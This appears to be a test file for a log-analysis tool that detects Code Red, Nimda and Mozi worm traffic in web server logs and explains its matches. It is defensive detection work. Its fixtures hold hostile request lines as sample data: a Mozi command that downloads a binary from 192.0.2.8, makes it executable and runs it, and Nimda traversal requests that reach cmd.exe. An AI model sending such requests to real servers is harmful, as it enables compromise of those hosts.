import { deepEqual, doesNotMatch, equal, match, ok } from 'node:assert/strict'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { ownWorm } from './own-worm.ts'
import { findings, folderOf, redalert } from './program.ts'
import { codeRed, codeRedTarget, line, visitor } from './sample-lines.ts'

const door = '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir'
const time = '18/Sep/2001:13:40:25 +0000'
const nimda = (target: string, at = time) =>
  line('192.0.2.7', `GET ${target} HTTP/1.0`, { time: at })
const mozi = line(
  '192.0.2.8',
  'GET /shell?cd+/tmp;wget+http://192.0.2.8:44919/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1',
)
const folder = folderOf({
  'access.log': [
    visitor,
    codeRed('192.0.2.7'),
    nimda(door),
    nimda('/c/winnt/system32/cmd.exe?/c+dir', '18/Sep/2001:13:59:59 +0000'),
    nimda('/d/winnt/system32/cmd.exe?/c+dir', '18/Sep/2001:14:00:01 +0000'),
    mozi,
  ].join(''),
  'old.log.gz': gzipSync(nimda('/scripts/root.exe?/c+dir', '18/Sep/2001:20:00:00 +0000')),
  'ex.log':
    '#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query\n2001-07-19 14:08:55 192.0.2.9 GET /scripts/root.exe /c+dir\n',
  'bytes.log': Buffer.from(line('192.0.2.7', 'GET /\xe9\xff\x1b[2J HTTP/1.0'), 'latin1'),
  'mine/own.json': JSON.stringify(ownWorm),
})
const why = (...words: readonly string[]) => redalert(folder, ['why', ...words])

test('a line tells its format, its fields, its decoding, its conditions and what it proves', () => {
  const { code, out, told } = why(nimda(door).trim())
  deepEqual([code, told], [0, ''])
  for (const part of [
    /^Read as clf$/m,
    /^ {2}client +192\.0\.2\.7$/m,
    /^ {2}request +GET \/scripts\/\.\.%255c/m,
    /From 192\.0\.2\.7 at 2001-09-18 13:40:25 UTC\./,
    /^ {4}then +\/scripts\/\.\.%5c\.\.\/winnt/m,
    /^ {4}then +\/scripts\/\.\.\\\.\.\/winnt/m,
    /^ {4}tested as path +\/scripts\/\.\.\/\.\.\/winnt\/system32\/cmd\.exe$/m,
    /^ {4}tested as query +\/c dir$/m,
    /^ {2}nimda-scripts$/m,
    /^ {4}✓ its method is "GET"$/m,
    /It also fits iis-cmd-exe, which does not count beside nimda-scripts\./,
    /\(root-exe\), probe: it looked for a back door of IIS/,
    /^ {6}infected by nimda +5 different marks within two adjoining hours; seen 1:/m,
  ])
    match(out, part)
})

test('the place that scan names is the line', () => {
  const byPlace = why('access.log:3').out
  equal(byPlace, `access.log:3\n${why(nimda(door).trim()).out}`)
  const two = why('access.log:3', 'access.log:2')
  equal(two.code, 0)
  match(two.out, /^access\.log:3\n[^]*\n\naccess\.log:2\n/)
  match(why('old.log.gz:1').out, /^ {2}nimda-scripts-root$/m)
})

test('the last header line above a line is how it is read', () => {
  match(why('ex.log:2').out, /^Read as w3c$/m)
  match(why('ex.log:1').out, /A header line/)
  const above =
    '#Fields: date time c-ip cs-method cs-uri-stem\n2001-07-19 14:08:55 192.0.2.9 GET /x'
  match(why(above).out, /^Read as w3c$/m)
})

test('the whole worm is infected, and long texts are shortened', () => {
  const { out, code } = why('access.log:2')
  equal(code, 0)
  match(out, /^ {4}✓ its query starts with "N", 224 times over$/m)
  match(out, /\(codered-n\), infected: its request holds the worm's complete code/)
  doesNotMatch(out, /For more it would take/)
  ok(out.split('\n').length < 60)
})

test('a source that hands out the program is told by the line', () => {
  const { out } = why('access.log:6')
  match(out, /✓ it tells its victim to fetch something and run it/)
  match(out, /It tells its victim to fetch from 192\.0\.2\.8\./)
  match(
    out,
    /infected: it told its victim to\s+fetch the program from 192\.0\.2\.8, which is itself/,
  )
})

test('a line without a mark names the nearest and the condition that failed, and the code is 1', () => {
  const near = line('192.0.2.7', `GET ${codeRedTarget.replace('.ida', '.htm')} HTTP/1.0`)
  const { code, out } = why(near.trim())
  equal(code, 1)
  match(out, /^It has no mark\n {2}The nearest is codered-n-\w+:$/m)
  match(out, /^ {4}✗ its path ends with "\.ida" or "\.idq": it is "\/default\.htm"$/m)
  match(why('access.log:1').out, /^It has no mark\n {2}and comes near to none$/m)
})

test('a line that no format reads says why of each near one', () => {
  const { code, out } = why('192.0.2.7 - - [19/Jul/2001:16:08:55 +0200] GET /x HTTP/1.0 404 5')
  equal(code, 1)
  match(out, /^It cannot be read: no known format fits it$/m)
  match(out, /not of the format clf: the request in quotes must stand here\s+\(character\s+44\)\./)
  match(out, /whose lines look like \S/)
  match(why('2001-07-19 16:08:55 192.0.2.7 GET /x').out, /w3c: a W3C line without a #Fields line/)
  match(why('--format', 'json', 'hello world').out, /json-lines: it does not begin as its lines do/)
})

test('an address tells its cells hour by hour, the judgement, and what is missing', () => {
  const { code, out } = why('192.0.2.7', 'access.log', 'old.log.gz')
  equal(code, 0)
  match(out, /^192\.0\.2\.7\n5 lines with a mark, in access\.log, old\.log\.gz\n/)
  match(out, /\(codered-n\), infected: /)
  match(out, /\(root-exe\), probe: /)
  match(out, /infected by nimda +5 different marks within two adjoining hours; seen 3:/)
  const hours = [...out.matchAll(/^ {2}(\d{4}-\d\d-\d\d \d\d)h UTC$/gm)].map(([, hour]) => hour)
  deepEqual(hours, ['2001-07-19 14', '2001-09-18 13', '2001-09-18 14', '2001-09-18 20'])
  match(out, /^ {4}nimda-c {2}1 request, 13:59:59$\n {6}access\.log:4$/m)
})

test('five doors within two hours are Nimda, and nothing is missing', () => {
  const doors = ['/c', '/d'].map(drive => nimda(`${drive}/winnt/system32/cmd.exe?/c+dir`))
  const roots = ['/scripts', '/MSADC'].map(place => nimda(`${place}/root.exe?/c+dir`))
  const all = [...doors, ...roots, nimda(door)].join('')
  const { out } = redalert(folder, ['why', '192.0.2.7', '-'], { input: all })
  match(out, /\(nimda\), infected: /)
  doesNotMatch(out, /For more it would take/)
})

test('an address without a mark is said to have none, and the code is 1', () => {
  const { code, out } = why('203.0.113.9', 'access.log')
  equal(code, 1)
  match(out, /^203\.0\.113\.9\nNo line of it has a mark, in 6 lines of 1 file\.$/m)
})

test('lines from the standard input are explained one behind the other', () => {
  const { code, out } = redalert(folder, ['why', '-'], { input: visitor + nimda(door) })
  equal(code, 0)
  match(out, /^standard input:1\n[^]*\n\nstandard input:2\n/)
})

test('evidence is redacted, and whole with --raw', () => {
  const text = line('192.0.2.7', 'HEAD /scripts/root.exe HTTP/1.1', {
    tail: '"http://www.example.org/secret" "-"',
  })
  const files = folderOf({ 'a.log': text })
  doesNotMatch(redalert(files, ['why', '192.0.2.7', 'a.log']).out, /secret/)
  match(redalert(files, ['why', '192.0.2.7', 'a.log', '--raw']).out, /secret/)
})

test('what cannot be read is a fault, and the code is 2', () => {
  for (const [words, told] of [
    [['access.log:99'], 'redalert: access.log has 6 lines, and no line 99\n'],
    [['acces.log:1'], 'redalert: no such file: acces.log; did you mean access.log?\n'],
    [['192.0.2.7', 'gone.log'], 'redalert: no such file: gone.log\n'],
    [['192.0.2.7'], 'redalert: name the logs to look in too: redalert why 192.0.2.7 access.log\n'],
  ] as const) {
    const ran = why(...words)
    deepEqual([ran.code, ran.told], [2, told])
  }
})

test('nothing that a stranger wrote is obeyed by the terminal', () => {
  const { out } = why('bytes.log:1')
  match(out, /\\xff\\x1b\[2J/)
  doesNotMatch(out, /[^\n\x20-\x7e–…✓✗]/)
  const hostile = `192.0.2.7 - - [${time}] "GET /${'%25'.repeat(20_000)}${'${'.repeat(5000)} HTTP/1.0" 404 5 "-" "\u202e"`
  const ran = redalert(folder, ['why', '-'], { input: hostile })
  equal(ran.code, 1)
  doesNotMatch(ran.out, /[^\n\x20-\x7e–…✓✗]/)
  ok(ran.out.length < 10_000, `${ran.out.length} characters`)
})

test('own families are tried too', () => {
  const own = line('192.0.2.7', 'GET /own.worm HTTP/1.0').trim()
  equal(why(own).code, 1)
  const ran = why(own, '--signatures', 'mine')
  equal(ran.code, 0)
  match(ran.out, /^ {2}own-worm-asks\n {4}✓ its path is "\/own\.worm"$/m)
})

test('as JSON, a line tells everything', () => {
  const [story] = findings(why('--json', 'access.log:3'))
  deepEqual(
    [story.kind, story.file, story.line, story.read, story.format, story.at, story.clock],
    ['line', 'access.log', 3, 'entry', 'clf', '2001-09-18T13:40:25Z', 'known'],
  )
  for (const { start, end, text } of story.fields) equal(story.text.slice(start, end), text)
  deepEqual(
    story.decoded.map(({ field, tested }: never) => [field, tested]),
    [['target', { path: '/scripts/../../winnt/system32/cmd.exe', query: '/c dir' }]],
  )
  equal(story.decoded[0].steps.length, 3)
  deepEqual(
    story.marks.map(({ id }: { id: string }) => id),
    ['nimda-scripts'],
  )
  equal(story.trials[0].mark, 'nimda-scripts')
  ok(story.trials[0].conditions.every(({ outcome }: never) => outcome === 'holds'))
  equal(story.judgement[0].grade, 'probe')
  ok(story.judgement[0].toBeSurer.some(({ kind }: never) => kind === 'distinct'))
  const [unread] = findings(why('--json', 'access.log:1', '--format', 'json'))
  deepEqual([unread.read, unread.near[0].format], ['unread', 'json-lines'])
  const [bytes] = findings(why('--json', 'bytes.log:1'))
  equal(bytes.encoding, 'latin1')
})

test('as JSON, a source tells its cells and its judgement', () => {
  const [story] = findings(why('--json', '192.0.2.8', 'access.log'))
  deepEqual(
    [story.kind, story.source, story.lines, story.files, story.payloadHosts],
    ['source', '192.0.2.8', 1, ['access.log'], ['192.0.2.8']],
  )
  deepEqual(
    story.judgement.map(({ family, grade }: never) => [family, grade]),
    [['jaws', 'infected']],
  )
  equal(story.cells[0].mark, 'jaws-run')
  const faults = why('--json', '192.0.2.8', 'gone.log')
  deepEqual(
    findings(faults).map(({ kind }) => kind),
    ['fault', 'source'],
  )
  equal(faults.code, 2)
})
